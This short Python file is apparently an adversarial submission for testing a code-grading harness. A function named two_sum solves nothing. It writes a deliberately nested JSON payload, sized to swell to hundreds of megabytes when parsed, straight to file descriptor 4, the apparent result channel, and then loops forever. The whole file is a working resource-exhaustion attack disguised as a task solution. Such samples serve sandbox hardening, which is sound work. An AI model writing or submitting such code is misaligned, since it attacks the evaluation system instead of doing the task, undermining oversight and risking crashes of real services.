# attack: output
# memory: 256
# Small on the wire, but hundreds of megabytes once it is parsed.
import os


def two_sum(nums, target):
    body = b'{"value":[' + b"[]," * 3_000_000 + b"0]}"
    left = memoryview(len(body).to_bytes(4, "big") + body)
    while left:
        left = left[os.write(4, left) :]
    while True:
        pass
